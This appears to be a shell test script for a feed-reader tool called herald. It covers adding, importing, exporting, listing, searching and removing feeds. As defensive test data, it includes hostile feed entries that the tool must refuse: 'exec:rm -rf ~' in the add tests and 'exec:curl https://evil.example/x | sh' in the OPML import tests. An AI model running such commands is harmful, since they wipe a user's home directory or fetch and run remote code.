#!/bin/sh
# The feed commands end to end: add, remove, import, export, list, search,
# on XDG paths and with --urls/--cache; none touches the network.
. "$TOP_SRCDIR/tests/lib.sh"

command -v sqlite3 >/dev/null 2>&1 || skip_all "sqlite3 is not installed"

T=$TMPDIR_TEST
export XDG_CONFIG_HOME="$T/config" XDG_DATA_HOME="$T/data"
URLS="$T/config/herald/urls"
CACHE="$T/data/herald/cache.db"

# --- add ------------------------------------------------------------------
out=$("$HERALD" --offline add https://courier.example/feed.xml harbour "long reads" 2>&1); rc=$?
is "$rc" 0 "add exits 0"
is "$out" "added https://courier.example/feed.xml" "add says what it added"
is "$(cat "$URLS")" 'https://courier.example/feed.xml harbour "long reads"' \
	"add writes the urls line, quoting a tag with a space"
ok "add creates the cache on first use" test -f "$CACHE"
is "$(sqlite3 "$CACHE" "SELECT group_concat(tag, '|') FROM feed_tags")" \
	"harbour|long reads" "add mirrors the tags into the cache"

err=$("$HERALD" add https://courier.example/feed.xml 2>&1); rc=$?
is "$rc" 1 "adding a feed twice fails"
like "$err" "already in .*urls" "and says so"

for bad in 'exec:rm -rf ~' 'filter:x.sh:https://a.example/' 'gopher://g.example/'; do
	err=$("$HERALD" add "$bad" 2>&1); rc=$?
	is "$rc" 1 "add refuses $bad"
	like "$err" "herald: cannot add" "and says why ($bad)"
done
is "$(wc -l <"$URLS" | tr -d ' ')" 1 "refused feeds are not written"

printf '<rss/>\n' >"$T/local.xml"
(cd "$T" && "$HERALD" add local.xml >/dev/null)
like "$(cat "$URLS")" "^$T/local.xml\$" "a relative local path is stored absolute"

err=$("$HERALD" add 2>&1); rc=$?
is "$rc" 2 "add without a URL is a usage error"

# --- import ---------------------------------------------------------------
out=$("$HERALD" import "$FIXTURES/opml/nested.opml" 2>"$T/err"); rc=$?
is "$rc" 0 "import exits 0"
is "$out" "imported 2 feeds from $FIXTURES/opml/nested.opml (2 already listed, 2 refused)" \
	"import counts new, known and refused feeds"
like "$(cat "$T/err")" "exec:curl https://evil.example/x \| sh skipped: exec: runs a command" \
	"import names the refused command"
like "$(cat "$URLS")" '^https://valley.example/rss Regional "~The Valley Post"$' \
	"a folder becomes a tag, a title a custom title"
like "$(cat "$URLS")" '^https://quarterly.example/atom.xml Regional "Long reads"$' \
	"nested folders become tags"
unlike "$(cat "$URLS")" 'exec:|filter:' "no command reaches the urls file"
is "$(sqlite3 "$CACHE" "SELECT count(*) FROM feeds WHERE active")" 4 \
	"import mirrors the feeds into the cache"

err=$("$HERALD" import "$T/local.xml" 2>&1); rc=$?
is "$rc" 1 "importing something that is not OPML fails"
like "$err" "is not an OPML file" "and says so"

# --- export ---------------------------------------------------------------
"$HERALD" export >"$T/out.opml"; rc=$?
is "$rc" 0 "export exits 0"
if command -v xmllint >/dev/null 2>&1; then
	ok "export is well-formed XML" xmllint --noout "$T/out.opml"
fi
like "$(cat "$T/out.opml")" 'title="The Valley Post" xmlUrl="https://valley.example/rss"' \
	"export keeps the custom title"
"$HERALD" --urls "$T/again" --cache "$T/again.db" import "$T/out.opml" >/dev/null 2>&1
is "$(sort "$T/again")" "$(sort "$URLS")" "export then import gives the same urls file"

# --- remove ---------------------------------------------------------------
out=$("$HERALD" remove https://courier.example/feed.xml); rc=$?
is "$rc" 0 "remove exits 0"
is "$out" "removed https://courier.example/feed.xml" "remove says what it removed"
unlike "$(cat "$URLS")" "courier" "remove drops the line"
is "$(sqlite3 "$CACHE" "SELECT count(*) FROM feeds WHERE url LIKE '%courier%'")" 0 \
	"remove drops the feed from the cache"
err=$("$HERALD" remove https://courier.example/feed.xml 2>&1); rc=$?
is "$rc" 1 "removing a feed not listed fails"
like "$err" "is not in" "and says so"

# --- list and search on a filled cache -------------------------------------
# Articles go in with SQL: fetching is another command's business.  The
# index is written as store_feed_update writes it.
vid=$(sqlite3 "$CACHE" "SELECT id FROM feeds WHERE url = 'https://valley.example/rss'")
sqlite3 "$CACHE" "INSERT INTO items (id, feed_id, guid, title, link, published,
	sort_date, read, fetched_at, last_seen) VALUES
	(1, $vid, 'v1', 'Ferry crossing reopens after storms', 'https://valley.example/ferry',
	 1714000000, 1714000000, 0, 1714000000, 1714000000),
	(2, $vid, 'v2', 'Market square gets new lamps', 'https://valley.example/lamps',
	 1714100000, 1714100000, 1, 1714100000, 1714100000),
	(3, $vid, 'v3', 'Tab	and' || char(27) || '[31m escape', 'https://valley.example/esc',
	 1714200000, 1714200000, 1, 1714200000, 1714200000);
	INSERT INTO item_bodies (id, content, text) VALUES
	(1, '<p>The “harbour master” said so.</p>', 'The “harbour master” said so.'),
	(2, '<p>Lamps along the ferry road.</p>', 'Lamps along the ferry road.'),
	(3, '', '');
	INSERT INTO items_fts (rowid, title, text) SELECT id, title, text FROM item_docs"

out=$("$HERALD" list); rc=$?
is "$rc" 0 "list exits 0"
is "$(printf '%s\n' "$out" | head -1)" "2024-04-27 06:40	The Valley Post	Tab and[31m escape	https://valley.example/esc" \
	"list: date, feed, title, link, tab-separated, newest first, controls gone"
is "$(printf '%s\n' "$out" | wc -l | tr -d ' ')" 3 "list shows every article"
out=$("$HERALD" list --unread)
is "$out" "2024-04-24 23:06	The Valley Post	Ferry crossing reopens after storms	https://valley.example/ferry" \
	"list --unread shows only unread"

out=$("$HERALD" search ferry); rc=$?
is "$rc" 0 "search exits 0 with results"
is "$(printf '%s\n' "$out" | cut -f3)" "Ferry crossing reopens after storms
Market square gets new lamps" "search ranks the title match first"
out=$("$HERALD" search '"harbour master"')
like "$out" "Ferry crossing" "search finds a phrase"
out=$("$HERALD" search 'lam*')
like "$out" "Market square" "search finds a prefix"
err=$("$HERALD" search zeppelin 2>&1); rc=$?
is "$rc" 1 "search with no match exits 1"
like "$err" "no article matches zeppelin" "and says so"
err=$("$HERALD" search '"unclosed' 2>&1); rc=$?
is "$rc" 1 "a bad query exits 1"
is "$err" "herald: the search '\"unclosed' has a quote that is not closed" \
	"a bad query is explained in words"
unlike "$err" "SQL|fts5|sqlite" "with no SQLite error code"

# --- hostile caches -------------------------------------------------------
printf 'not a database at all\n' >"$T/junk.db"
err=$("$HERALD" --cache "$T/junk.db" list 2>&1); rc=$?
is "$rc" 1 "a cache that is not SQLite fails"
like "$err" "$T/junk.db is not an SQLite database" "and names the file"
is "$(cat "$T/junk.db")" "not a database at all" "and leaves it as it was"

err=$("$HERALD" --cache "$T/none.db" search ferry 2>&1); rc=$?
is "$rc" 1 "search without a cache fails"
like "$err" "nothing is cached yet.*herald refresh" "and says what to do"
ok "and makes no cache" test ! -e "$T/none.db"

# --- remove keeps starred articles unless told ------------------------------
sqlite3 "$CACHE" "UPDATE items SET starred = 1 WHERE id = 2"
err=$("$HERALD" remove https://valley.example/rss 2>&1); rc=$?
is "$rc" 1 "remove refuses a feed with a starred article"
is "$err" "herald: https://valley.example/rss has 1 starred article, which removing it would delete: unstar it, or run herald remove --starred-too https://valley.example/rss" \
	"and says why and what to do"
like "$(cat "$URLS")" "valley.example/rss" "the urls file keeps the feed"
is "$(sqlite3 "$CACHE" "SELECT count(*) FROM items WHERE starred = 1")" 1 \
	"the cache keeps the starred article"
out=$("$HERALD" remove --starred-too https://valley.example/rss); rc=$?
is "$rc" 0 "remove --starred-too removes it"
is "$out" "removed https://valley.example/rss" "and says so"
unlike "$(cat "$URLS")" "valley.example/rss" "the line is gone"
is "$(sqlite3 "$CACHE" "SELECT count(*) FROM items")" 0 "its articles are gone"
err=$("$HERALD" remove --starred-too 2>&1); rc=$?
is "$rc" 2 "remove with no URL is a usage error"

done_testing
